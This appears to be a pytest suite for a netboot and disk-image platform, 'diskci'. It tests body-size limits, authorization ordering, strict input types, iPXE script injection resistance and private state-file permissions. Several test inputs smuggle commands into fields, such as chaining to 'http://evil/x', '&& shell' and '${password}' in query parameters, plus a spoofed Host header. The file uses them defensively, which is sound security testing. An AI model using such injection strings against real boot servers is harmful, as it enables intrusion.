"""Issue 18's input hardening, on the real app (SQLite and PostgreSQL) and a real ``platform serve``:
bodies refused as they arrive, the token before the body, a clear 4xx for every odd input, iPXE scripts
that nothing from a request can inject into, login for all but the boot files, the role before the
input and strict input types, and private state files."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import stat
import time
import warnings
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest
from netboot_support import HEXHYP, add_platform_with_node, add_publication
from served_platform import admin_token, platform_serve, serve_env
from typer.testing import CliRunner

from diskci.errors import Forbidden, InvalidRequest, UsageError
from diskci.platform.actions.catalog import invoke
from diskci.platform.db.models import Role
from diskci.platform.db.session import Database
from diskci.platform.services.blobcache import BlobCache
from diskci.platform.services.netboot import NetbootService
from diskci.platform.settings import InsecureSettings, PlatformSettings

BASE = "http://127.0.0.1:8480"  # the public_base_url of the platform_settings fixture
MiB = 1024 * 1024
NEW_PLATFORM = {
    "name": "debian-12-amd64",
    "architectures": ["amd64"],
    "registry_repository": "127.0.0.1:5000/ops/disk-images/debian-12-amd64",
    "cosign_identity_regexp": r"^https://ci\.example/.+$",
    "cosign_oidc_issuer": "https://ci.example",
}


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def assert_error(response: Any, status: int, error: str | None = None, detail: str | None = None) -> None:
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body) == {"error", "detail"}, body
    if error is not None:
        assert body["error"] == error, body
    if detail is not None:
        assert detail in body["detail"], body


@pytest.fixture
def client(platform_app: Any, platform_client: Any) -> Any:
    platform_app.state.netboot = NetbootService(cache_seconds=0)
    return platform_client


@pytest.fixture
def platform_id(platform_db: Database) -> int:
    return add_platform_with_node(platform_db)


def _publication(
    database: Database,
    blobs: BlobCache,
    platform_id: int,
    *,
    cmdline: str = "console=ttyS0 quiet",
    extra: tuple[str, ...] = (),
) -> tuple[int, dict[str, bytes]]:
    names = ("vmlinuz", "initramfs.img", "rootfs.img", "boot.ipxe", *extra)
    files = {name: os.urandom(4096) for name in names}
    pub_id = add_publication(
        database,
        blobs,
        platform_id,
        files,
        version="1.0.0",
        manifest_digest="sha256:" + "2" * 64,
        cmdline=cmdline,
        make_default=True,
    )
    return pub_id, files


# --- 1. bodies are limited as they stream, and the token comes before the body -------------------


def _peak_rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise AssertionError("no VmHWM in /proc/PID/status")


def _post_huge(
    port: int, path: str, size: int, *, chunked: bool, token: str | None = None
) -> tuple[int, float]:
    """POST ``size`` bytes to ``path`` over a raw socket; the answer's status and how long it took."""
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    if token:
        head += f"Authorization: Bearer {token}\r\n"
    head += "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {size}\r\n\r\n"
    chunk = b"[" * 65536
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        sock.sendall(head.encode())
        try:
            for _ in range(size // len(chunk)):
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
        except OSError:  # the server answered and closed: what we are testing for
            pass
        answer = sock.recv(65536)
    elapsed = time.monotonic() - started
    status_line = answer.split(b"\r\n", 1)[0].decode()
    assert status_line.startswith("HTTP/1.1 "), answer[:200]
    return int(status_line.split()[1]), elapsed


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[int, int, str]]:
    """A real ``diskci platform serve`` (uvicorn, SQLite): its port, pid and an admin token."""
    state = tmp_path / "state"
    env = serve_env(state, "hardening-" + "h" * 40, queue_in_state=False)
    with platform_serve(
        env,
        tmp_path / "serve.log",
        consumer=False,
        what="platform serve to come up",
        stop_signal=signal.SIGTERM,
        stop_timeout=30,
    ) as server:
        yield server.port, server.proc.pid, admin_token(state)


def test_huge_bodies_are_refused_without_being_buffered(served: tuple[int, int, str]) -> None:
    port, pid, token = served
    size = 64 * MiB
    before = _peak_rss_kib(pid)
    cases = [
        ("/api/v1/netboot/report", None),
        ("/api/v1/system/webhooks/disk_image_built", None),
        ("/api/v1/system_list_node_platforms", token),
        ("/ipxe", None),
    ]
    for path, auth in cases:
        for chunked in (False, True):
            if chunked and path == "/ipxe":
                continue  # a GET route: POST is a 405 before any body is read
            status, elapsed = _post_huge(port, path, size, chunked=chunked, token=auth)
            assert status == 413, (path, chunked, status)  # refused unbuffered: the memory check below
            print(f"{path} (chunked {chunked}): 413 after {elapsed:.2f} s")
    # Without a token, an action route answers 401 before reading a byte of the body.
    assert _post_huge(port, "/api/v1/system_list_node_platforms", size, chunked=True)[0] == 401
    grown_mib = (_peak_rss_kib(pid) - before) / 1024
    assert grown_mib < 24, f"the server's peak memory grew by {grown_mib:.0f} MiB over 64 MiB bodies"


def _asgi_post(
    app: Any, path: str, headers: dict[str, str], chunks: list[bytes]
) -> tuple[int, dict[str, Any], int]:
    """Call the ASGI app directly: the status, the JSON answer, and how many body chunks it pulled."""
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        if pulled > len(chunks):
            return {"type": "http.disconnect"}
        return {"type": "http.request", "body": chunks[pulled - 1], "more_body": pulled < len(chunks)}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 1234),
        "server": ("127.0.0.1", 8480),
    }
    anyio.run(app, scope, receive, send)
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return sent[0]["status"], json.loads(body), pulled


def test_action_routes_check_the_token_and_role_before_reading_the_body(
    platform_app: Any, make_token: Any
) -> None:
    garbage = [b'{"name": ' + b"[" * 10_000] * 4
    status, body, pulled = _asgi_post(platform_app, "/api/v1/system_create_node_platform", {}, garbage)
    assert (status, body["error"], pulled) == (401, "MissingToken", 0)
    viewer = bearer(make_token("viewer"))
    status, body, pulled = _asgi_post(platform_app, "/api/v1/system_create_node_platform", viewer, garbage)
    assert (status, body["error"], pulled) == (403, "Forbidden", 0)
    admin = bearer(make_token("admin"))
    status, body, pulled = _asgi_post(platform_app, "/api/v1/system_create_node_platform", admin, garbage)
    assert status == 400 and "nested deeper" in body["detail"] and pulled == 4


def test_every_route_has_a_body_limit(client: Any, admin_headers: dict[str, str]) -> None:
    action = client.post(
        "/api/v1/system_list_node_platforms",
        headers={**admin_headers, "Content-Type": "application/json"},
        content=b" " * (256 * 1024 + 1),
    )
    assert_error(action, 413, "BodyTooLarge", "262144")
    report = client.post(f"/api/v1/netboot/report?mac={HEXHYP}", content=b" " * (64 * 1024 + 1))
    assert_error(report, 413, "BodyTooLarge", "65536")
    assert_error(client.post("/healthz", content=b"x" * (256 * 1024 + 1)), 413, "BodyTooLarge")


# --- 2. odd input is a clear 4xx, never a 500 -----------------------------------------------------

NESTED = b"[" * 50_000 + b"]" * 50_000
ODD_ACTION_BODIES = [
    ("system_list_node_platforms", NESTED, "nested deeper"),
    ("system_get_node_platform", b'{"name": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nested deeper"),
    ("system_get_disk_image_publication", b'{"id": ' + b"1" * 5000 + b"}", "5000 digits"),
    ("system_get_disk_image_publication", b'{"id": 9223372036854775808}', "64 bits"),
    ("system_get_disk_image_publication", b'{"id": 1099511627776}', "out of range"),
    ("system_get_disk_image_publication", b'{"id": -2147483649}', "out of range"),
    ("system_list_disk_image_publications", b'{"offset": 9223372036854775808}', "64 bits"),
    ("system_list_disk_image_publications", b'{"offset": 4294967296}', "out of range"),
    ("system_list_node_instances", b'{"offset": 9223372036854775807}', "out of range"),
    ("system_get_task", b'{"task_id": "\\ud800"}', "surrogate"),
    ("system_get_node_platform", b'{"name": "x\\udc00y"}', "surrogate"),
    ("system_get_node_platform", b'{"\\ud800": 1}', "surrogate"),
    ("system_get_node_platform", b'{"name": NaN}', "NaN"),
    ("system_get_node_platform", b"\xff\xfe{}", "UTF-8"),
    ("system_get_node_platform", b"[1, 2]", "JSON object"),
]


@pytest.mark.parametrize(("action", "raw", "detail"), ODD_ACTION_BODIES)
def test_odd_action_input_is_a_400(
    client: Any, admin_headers: dict[str, str], action: str, raw: bytes, detail: str
) -> None:
    r = client.post(
        f"/api/v1/{action}", headers={**admin_headers, "Content-Type": "application/json"}, content=raw
    )
    assert_error(r, 400, "InvalidRequest", detail)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("retention_routine_days", 2**63),
        ("retention_routine_days", 2**40),
        ("retention_critical_days", 10**9),  # beyond what a date can go back
    ],
)
def test_odd_retention_days_are_a_400(
    client: Any, admin_headers: dict[str, str], field: str, value: int
) -> None:
    r = client.post(
        "/api/v1/system_create_node_platform", headers=admin_headers, json={**NEW_PLATFORM, field: value}
    )
    assert_error(r, 400, "InvalidRequest")
    r = client.post(
        "/api/v1/system_set_disk_image_retention",
        headers=admin_headers,
        json={"platform": "debian-12-amd64", "routine_days": value},
    )
    assert_error(r, 400, "InvalidRequest")


@pytest.mark.parametrize(
    "path",
    [
        "/netboot/9223372036854775808/amd64/vmlinuz",
        "/netboot/1099511627776/amd64/vmlinuz",
        "/netboot/-1/amd64/vmlinuz",
        "/netboot/" + "9" * 5000 + "/amd64/vmlinuz",
        "/netboot/abc/amd64/vmlinuz",
    ],
)
def test_odd_path_segments_are_a_4xx(client: Any, path: str) -> None:
    r = client.get(path)
    assert 400 <= r.status_code < 500 and set(r.json()) == {"error", "detail"}, r.text


@pytest.mark.parametrize(
    ("query", "raw"),
    [
        ("publication=9223372036854775808", b'{"status": "booted"}'),
        ("publication=" + "1" * 5000, b'{"status": "booted"}'),
        ("", b"[" * 30_000 + b"]" * 30_000),
        ("", b'{"status": "booted", "mac": "' + b"\\ud800" + b'"}'),
        ("", b'{"status": "booted", "n": ' + b"9" * 5000 + b"}"),
    ],
)
def test_odd_boot_reports_are_a_400(client: Any, platform_id: int, query: str, raw: bytes) -> None:
    r = client.post(f"/api/v1/netboot/report?mac={HEXHYP}&{query}", content=raw)
    assert_error(r, 400, "InvalidRequest")


@pytest.mark.parametrize("raw", [NESTED, b'{"node_platform": "\\ud800"}', b'{"n": ' + b"1" * 5000 + b"}"])
def test_odd_webhook_bodies_are_a_4xx(client: Any, raw: bytes) -> None:
    headers = {
        "webhook-signature": "v1," + "A" * 43 + "=",
        "webhook-id": "6f1c0c52-55a4-4f5e-8f0e-0a6f7f3a1d11",
        "webhook-timestamp": str(int(time.time())),
    }
    r = client.post("/api/v1/system/webhooks/disk_image_built", content=raw, headers=headers)
    assert_error(r, 400, "MalformedDelivery")


def test_unknown_routes_and_methods_answer_in_the_error_shape(client: Any) -> None:
    assert_error(client.get("/no/such/route"), 404, "NotFound")
    assert_error(client.post("/ipxe"), 405, "MethodNotAllowed")
    assert_error(client.get("/api/v1/system_list_node_platforms"), 405, "MethodNotAllowed")
    assert_error(client.post("/api/v1/no_such_action"), 404, "NotFound")
    assert_error(client.get("/netboot/not-a-number/amd64/vmlinuz"), 400, "InvalidRequest")


def test_the_openapi_document_lists_the_real_error_responses(client: Any) -> None:
    """Bad input answers 400 in the one error shape, never FastAPI's 422, and the document says so;
    every operation has its own id (the netboot GET and HEAD routes included)."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # FastAPI warns of a duplicate operation id
        doc = client.get("/api/v1/openapi.json").json()
    operations = [op for item in doc["paths"].values() for op in item.values()]
    ids = [op["operationId"] for op in operations]
    assert len(ids) == len(set(ids))
    assert all("422" not in op["responses"] for op in operations)
    assert "HTTPValidationError" not in doc["components"]["schemas"]
    artifact = doc["paths"]["/netboot/{publication}/{arch}/{artifact}"]
    assert "400" in artifact["get"]["responses"] and "404" in artifact["get"]["responses"]
    action = doc["paths"]["/api/v1/system_create_node_platform"]["post"]["responses"]
    assert {"400", "401", "403", "409", "413"} <= set(action)


# --- 3. iPXE scripts: nothing from the request is interpreted ----------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "mac=52-54-00-12-34-56%20%26%26%20shell&arch=x86_64",
        "mac=${net0/mac}&arch=x86_64",
        f"mac={HEXHYP}&arch=x86_64%20||%20chain%20http://evil/x",
        f"mac={HEXHYP}&arch=${{buildarch}}%26%26reboot",
        f"mac={HEXHYP}&uuid=${{password}}&arch=x86_64",
        f"mac={HEXHYP}&uuid=a%0Ashell&arch=x86_64",
        "platform=x%20%26%26%20shell&arch=x86_64",
        "platform=" + "a" * 5000 + "&arch=x86_64",
    ],
)
def test_bad_ipxe_requests_cannot_inject_commands(client: Any, platform_id: int, query: str) -> None:
    r = client.get(f"/ipxe?{query}")
    assert r.status_code == 400
    lines = r.text.splitlines()
    assert lines[0] == "#!ipxe" and lines[-1] == "shell" and len(lines) == 3, r.text
    assert lines[1].startswith("echo diskci: bad request: ")
    for dangerous in ("$", "&", "|", ";", "#", "{", "}"):
        assert dangerous not in lines[1], lines[1]
    assert len(r.text) < 400


def test_scripts_use_the_public_base_url_not_the_host_header(
    client: Any, platform_db: Database, platform_settings: PlatformSettings, platform_id: int
) -> None:
    pub_id, _files = _publication(platform_db, BlobCache(platform_settings.blob_dir), platform_id)
    evil = {"Host": "evil.example:666"}
    chain = client.get("/boot.ipxe", headers=evil).text
    boot = client.get(f"/ipxe?mac={HEXHYP}&arch=x86_64", headers=evil).text
    retry = client.get("/ipxe?mac=52-54-00-ff-ff-ff&uuid=u-1&arch=x86_64", headers=evil).text
    for script in (chain, boot, retry):
        assert "evil" not in script
        urls = re.findall(r"[a-z]+://[^\s]+", script)
        assert urls and all(u.startswith(BASE + "/") for u in urls), script
    assert f"kernel {BASE}/netboot/{pub_id}/amd64/vmlinuz " in boot
    assert f"chain --autofree {BASE}/ipxe?mac=52-54-00-ff-ff-ff&uuid=u-1&arch=amd64" in retry


@pytest.mark.parametrize(
    "cmdline", ["console=ttyS0 ${root-password}", "quiet && shell", "a;b", "x #y", 'a="b"']
)
def test_a_kernel_command_line_iPXE_would_interpret_is_not_booted(
    client: Any, platform_db: Database, platform_settings: PlatformSettings, platform_id: int, cmdline: str
) -> None:
    _publication(platform_db, BlobCache(platform_settings.blob_dir), platform_id, cmdline=cmdline)
    r = client.get(f"/ipxe?mac={HEXHYP}&arch=x86_64")
    assert r.status_code == 200 and "not booted" in r.text
    assert not [line for line in r.text.splitlines() if line.startswith(("kernel", "initrd", "boot"))]
    assert cmdline not in r.text


@pytest.mark.parametrize(
    "url",
    ["http://x:1/a b", "http://x/${a}", "http://x/?q=1", "ftp://x", "http://u:p@x", "http://x/a&&b", "x"],
)
def test_the_public_base_url_must_be_a_plain_url(url: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="not a plain http"):
        PlatformSettings(state_dir=tmp_path, public_base_url=url)


def test_the_default_public_base_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DISKCI_PUBLIC_BASE_URL", raising=False)
    assert PlatformSettings(state_dir=tmp_path).public_base_url == "http://127.0.0.1:8480"
    assert PlatformSettings(state_dir=tmp_path, bind_host="::1").public_base_url == "http://[::1]:8480"
    wildcard = PlatformSettings(state_dir=tmp_path, bind_host="0.0.0.0", bind_port=9000).public_base_url
    assert wildcard == f"http://{socket.getfqdn()}:9000"
    assert PlatformSettings(state_dir=tmp_path, public_base_url="https://d.example/p/").public_base_url == (
        "https://d.example/p"
    )


# --- 4. only the boot files without a login -----------------------------------------------------


def test_only_boot_files_are_served_without_a_token(
    client: Any, platform_db: Database, platform_settings: PlatformSettings, platform_id: int, make_token: Any
) -> None:
    others = ("rootfs.tar", "disk.raw", "sbom.spdx.json", "packages.json")
    pub_id, files = _publication(
        platform_db, BlobCache(platform_settings.blob_dir), platform_id, extra=others
    )
    for name in ("vmlinuz", "initramfs.img", "rootfs.img", "boot.ipxe"):
        r = client.get(f"/netboot/{pub_id}/amd64/{name}")
        assert r.status_code == 200 and r.content == files[name]
        assert r.headers["cache-control"].startswith("public")
    viewer = bearer(make_token("viewer"))
    for name in others:
        assert_error(client.get(f"/netboot/{pub_id}/amd64/{name}"), 401, "MissingToken")
        bad = client.get(f"/netboot/{pub_id}/amd64/{name}", headers=bearer("dci_nope"))
        assert_error(bad, 401, "InvalidToken")
        r = client.get(f"/netboot/{pub_id}/amd64/{name}", headers=viewer)
        assert r.status_code == 200 and r.content == files[name]
        assert r.headers["cache-control"].startswith("private")
    assert client.head(f"/netboot/{pub_id}/amd64/rootfs.tar").status_code == 401
    # which files exist is not told to a caller without a token either
    assert_error(client.get(f"/netboot/{pub_id}/amd64/no-such-file"), 401)
    assert_error(client.get(f"/netboot/{pub_id}/amd64/no-such-file", headers=viewer), 404, "NotFound")


# --- 5. the role before the input; strict input types -------------------------------------------


def test_a_caller_without_the_role_learns_nothing_of_the_input(client: Any, make_token: Any) -> None:
    viewer = bearer(make_token("viewer"))
    for body in ({"nom": 1}, {"name": True}, {}):
        r = client.post("/api/v1/system_create_node_platform", headers=viewer, json=body)
        assert r.json() == {
            "error": "Forbidden",
            "detail": "system_create_node_platform needs the admin role; this token has viewer",
        }


def test_invoke_checks_the_role_before_the_input(
    platform_db: Database, platform_settings: PlatformSettings
) -> None:
    with pytest.raises(Forbidden, match="needs the admin role"):
        invoke(
            "system_create_node_platform",
            {"nonsense": object()},
            database=platform_db,
            settings=platform_settings,
            actor="t",
            role=Role.VIEWER,
        )


@pytest.mark.parametrize(
    ("action", "body", "field"),
    [
        (
            "system_set_default_disk_image_publication",
            {"platform": "debian-12-amd64", "publication_id": True},
            "publication_id",
        ),
        (
            "system_set_default_disk_image_publication",
            {"platform": "debian-12-amd64", "publication_id": "1"},
            "publication_id",
        ),
        (
            "system_set_default_disk_image_publication",
            {"platform": "debian-12-amd64", "publication_id": 1.0},
            "publication_id",
        ),
        ("system_get_disk_image_publication", {"id": "1"}, "id"),
        ("system_mark_disk_image_publication_critical", {"publication_id": 1, "critical": 1}, "critical"),
        ("system_list_disk_image_publications", {"limit": "5"}, "limit"),
        ("system_get_node_platform", {"name": 5}, "name"),
    ],
)
def test_input_types_are_strict(
    client: Any,
    admin_headers: dict[str, str],
    platform_db: Database,
    platform_settings: PlatformSettings,
    platform_id: int,
    action: str,
    body: dict[str, Any],
    field: str,
) -> None:
    _publication(platform_db, BlobCache(platform_settings.blob_dir), platform_id)
    r = client.post(f"/api/v1/{action}", headers=admin_headers, json=body)
    assert_error(r, 400, "InvalidRequest", field)
    with pytest.raises(InvalidRequest, match=field):
        invoke(
            action,
            body,
            database=platform_db,
            settings=platform_settings,
            actor="t",
            role=Role.ADMIN,
            confirmed=True,
        )


def test_strict_input_still_takes_json_times_and_enums(
    client: Any, admin_headers: dict[str, str], platform_id: int
) -> None:
    r = client.post(
        "/api/v1/system_list_disk_image_publications",
        headers=admin_headers,
        json={"platform": "debian-12-amd64", "created_after": "2024-01-01T00:00Z", "status": ["published"]},
    )
    assert r.status_code == 200, r.text
    r = client.post(
        "/api/v1/system_create_api_token", headers=admin_headers, json={"name": "v", "role": "viewer"}
    )
    assert r.status_code == 200, r.text


def test_the_cli_converts_its_text_to_the_field_types(
    platform_db: Database,
    platform_settings: PlatformSettings,
    platform_id: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from diskci.cli.main import app

    pub_id, _files = _publication(platform_db, BlobCache(platform_settings.blob_dir), platform_id)
    monkeypatch.setenv("DISKCI_DATABASE_URL", platform_db.url)
    runner = CliRunner()

    def run(*args: str) -> Any:
        return runner.invoke(app, ["platform", *args, "--json"], catch_exceptions=False)

    mark = "system_mark_disk_image_publication_critical"
    r = run(mark, "-s", f"publication_id={pub_id}", "-s", "critical=true")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["critical"] is True
    r = run(
        "system_list_disk_image_publications",
        "-s",
        "platform=debian-12-amd64",
        "-s",
        "limit=5",
        "-s",
        "critical=yes",
        "-s",
        "created_after=2020-01-01",
    )
    assert r.exit_code == 0, r.output
    assert [p["id"] for p in json.loads(r.stdout)["publications"]] == [pub_id]
    r = run("system_update_node_platform", "-s", "name=debian-12-amd64", "-s", "description=123")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["description"] == "123"  # a string field takes the text as it is
    with pytest.raises(InvalidRequest, match="id"):
        run("system_get_disk_image_publication", "--data", '{"id": true}')


# --- 6. state files are private -------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_state_is_created_private(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from diskci.platform.db.session import set_default
    from diskci.platform.http.app import create_app
    from diskci.platform.tasks import TaskQueue

    state = tmp_path / "fresh" / "state"
    settings = PlatformSettings(state_dir=state, environment="development")
    app = create_app(settings)
    try:
        with TestClient(app) as c:
            assert c.get("/healthz").status_code == 200
        TaskQueue(settings).huey.storage  # noqa: B018 - the queue file is made on first use
        assert _mode(state) == 0o700 and _mode(state.parent) == 0o700
        for name in ("platform.db", "platform.db-wal", "platform.db-shm", "queue.db", "secret.key"):
            assert (state / name).exists(), name
            assert _mode(state / name) == 0o600, name
    finally:
        app.state.database.dispose()
        set_default(None)


def test_existing_state_files_are_tightened(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o755)
    db_file = shared / "platform.db"
    db_file.touch(mode=0o644)
    os.chmod(db_file, 0o644)
    database = Database(f"sqlite:///{db_file}")
    try:
        database.upgrade()
        assert _mode(db_file) == 0o600
        for suffix in ("-wal", "-shm"):
            companion = db_file.with_name(db_file.name + suffix)
            assert not companion.exists() or _mode(companion) == 0o600
    finally:
        database.dispose()
    assert _mode(shared) == 0o755  # a directory that existed (such as /tmp) is not ours to change


def test_the_secret_key_can_live_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DISKCI_SECRET_KEY", raising=False)
    key_file = tmp_path / "keys" / "diskci.key"
    key_file.parent.mkdir()
    key_file.write_text("k" * 48 + "\n")
    os.chmod(key_file, 0o600)
    monkeypatch.setenv("DISKCI_SECRET_KEY_FILE", str(key_file))
    settings = PlatformSettings(state_dir=tmp_path / "state", environment="production")
    assert settings.key_file == key_file and settings.resolve_secret_key() == b"k" * 48


def test_production_refuses_the_key_beside_the_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DISKCI_SECRET_KEY", raising=False)
    monkeypatch.delenv("DISKCI_SECRET_KEY_FILE", raising=False)
    (tmp_path / "secret.key").write_text("k" * 48 + "\n")
    os.chmod(tmp_path / "secret.key", 0o600)
    with pytest.raises(InsecureSettings, match="may not live in the state directory"):
        PlatformSettings(state_dir=tmp_path, environment="production").resolve_secret_key()
    inside = PlatformSettings(
        state_dir=tmp_path, environment="production", secret_key_file=tmp_path / "sub" / "k"
    )
    with pytest.raises(InsecureSettings, match="may not live in the state directory"):
        inside.resolve_secret_key()
    # development still keeps it there, created 0600
    dev = PlatformSettings(state_dir=tmp_path / "dev", environment="development")
    dev.resolve_secret_key()
    assert _mode(dev.key_file) == 0o600 and _mode(tmp_path / "dev") == 0o700


def test_timestamps_in_the_past_are_kept_utc() -> None:  # the strict JSON mode keeps UtcDatetime
    from diskci.platform.actions.catalog import get_action, parse_input

    spec = get_action("system_list_recent_events")
    parsed = parse_input(spec, {"since": datetime(2024, 1, 1, 12, 0)})
    assert parsed.since == datetime(2024, 1, 1, 12, 0, tzinfo=UTC)
